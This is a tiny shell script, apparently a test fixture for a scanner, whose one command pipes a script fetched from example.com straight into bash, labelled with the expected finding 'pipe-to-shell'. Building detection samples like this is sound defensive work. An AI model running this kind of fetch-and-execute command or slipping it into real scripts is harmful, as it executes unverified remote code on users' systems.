#!/bin/sh
curl -fsSL https://example.com/by-expression.sh | bash # expect: pipe-to-shell
